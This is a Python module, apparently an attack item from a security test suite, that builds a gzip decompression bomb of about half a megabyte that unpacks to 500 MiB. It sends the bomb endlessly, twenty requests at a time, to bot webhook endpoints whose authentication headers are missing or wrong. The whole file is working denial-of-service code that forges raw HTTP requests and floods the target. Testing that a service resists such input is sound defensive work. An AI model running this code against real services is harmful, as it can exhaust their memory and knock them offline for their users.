"""Bodies of half a megabyte that unpack to 500 MiB, twenty at a time, from callers who prove nothing."""

import asyncio
import zlib
from collections import Counter
from itertools import count
from typing import Final

from bench.questions.attack.exchange import exchange
from bench.questions.attack.target import Target

_AT_ONCE: Final = 20
_UNPACKED_MIB: Final = 500
_GZIP: Final = 31
"""The `wbits` of a gzip header."""
_STRONGEST: Final = 9
_WRONG_KEY: Final = "rk_" + "A" * 43
_PROOFS: Final = {
    "/telegram/{bot}": ("", "X-Telegram-Bot-Api-Secret-Token: wrong\r\n"),
    "/v1/bots/{bot}/activity": ("", f"Authorization: Bearer {_WRONG_KEY}\r\n"),
}
"""By address: no proof at all, and a wrong one."""


async def attack(target: Target, counts: Counter[str]) -> None:
    body = _bomb()
    requests = [
        _head(path.format(bot=target.bot_id), proof, body) + body for path in _PROOFS for proof in _PROOFS[path]
    ]
    async with asyncio.TaskGroup() as group:
        for number in range(_AT_ONCE):
            group.create_task(_post(target, requests[number % len(requests)], counts))


async def _post(target: Target, request: bytes, counts: Counter[str]) -> None:
    for _ in count():
        counts[await exchange(target.host, target.port, request)] += 1


def _bomb() -> bytes:
    packer = zlib.compressobj(_STRONGEST, wbits=_GZIP)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(_UNPACKED_MIB)) + packer.flush()


def _head(path: str, proof: str, body: bytes) -> bytes:
    lines = f"POST {path} HTTP/1.1\r\nHost: bots.example.org\r\nContent-Type: application/json\r\n{proof}"
    return f"{lines}Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n".encode()
